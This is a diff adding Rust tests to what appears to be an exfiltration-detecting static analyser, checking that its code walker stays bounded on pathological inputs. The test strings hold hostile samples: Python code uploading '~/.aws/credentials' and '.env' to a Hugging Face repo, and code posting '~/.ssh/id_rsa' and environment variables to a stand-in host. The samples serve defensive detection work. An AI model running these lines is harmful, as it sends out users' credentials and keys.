@@ -268,3 +268,60 @@ fn a_method_name_built_from_literals_and_an_sdk_upload() {
     let py = "import os\nfrom huggingface_hub import HfApi\napi = HfApi(token='hf_x')\nfor p in ('~/.aws/credentials', '.env'):\n    full = os.path.expanduser(p)\n    api.upload_file(path_or_fileobj=full, repo_id='someone/cache')\n";
     assert_eq!(kinds_of(Language::Python, py), ["exfil:api.upload_file"]);
 }
+
+#[test]
+fn nested_method_calls_are_walked_once_each() {
+    // Found by the resource-bound inputs: a call's arguments were walked again for its
+    // receiver, so `requests.post(requests.post(…))` 60 deep visited 2^60 nodes (cut only by
+    // `MAX_NODES`, each visit copying the call's text).
+    let depth = 60;
+    let text = format!(
+        "{}os.environ{}\n",
+        "requests.post(".repeat(depth),
+        ")".repeat(depth)
+    );
+    let tree = crate::program::parse(Language::Python, &text).expect("parses");
+    let nested = |l: Language, t: &str| crate::effects::of(l, t);
+    let mut w = Walk::new(Language::Python, &text, &nested);
+    w.visit(tree.root_node(), &Val::default());
+    let mut all = 0;
+    let mut stack = vec![tree.root_node()];
+    while let Some(x) = stack.pop() {
+        all += 1;
+        let mut c = x.walk();
+        stack.extend(x.named_children(&mut c));
+    }
+    assert!(w.nodes <= 2 * all, "{} visits for {all} nodes", w.nodes);
+    assert!(!effects(Language::Python, &text).is_empty());
+}
+
+#[test]
+fn a_path_built_from_itself_stays_bounded() {
+    // Found by the resource-bound inputs: `a = a + a` doubled the literals kept for `a`, so 60
+    // lines asked for 2^60 bytes. What is kept stops at `MAX_LITS_BYTES`; the taint still flows.
+    let text = format!(
+        "import requests\na = '~/.ssh/id_rsa'\n{}requests.post('https://x.example', data=open(a))\n",
+        "a = a + a\n".repeat(60)
+    );
+    let e = kinds_of(Language::Python, &text);
+    assert!(e.iter().any(|k| k.starts_with("exfil:")), "{e:?}");
+}
+
+#[test]
+fn chained_callbacks_are_walked_once_each() {
+    // A receiver read for a callback comes from the pass's values: a chain of 40 `.then(f)`
+    // visits each node about once, not 2^40 times.
+    let text = format!("fetch(u){};\n", ".then((r) => r)".repeat(40));
+    let tree = crate::program::parse(Language::JavaScript, &text).expect("parses");
+    let nested = |l: Language, t: &str| crate::effects::of(l, t);
+    let mut w = Walk::new(Language::JavaScript, &text, &nested);
+    w.visit(tree.root_node(), &Val::default());
+    let mut all = 0;
+    let mut stack = vec![tree.root_node()];
+    while let Some(x) = stack.pop() {
+        all += 1;
+        let mut c = x.walk();
+        stack.extend(x.named_children(&mut c));
+    }
+    assert!(w.nodes <= 2 * all, "{} visits for {all} nodes", w.nodes);
+}
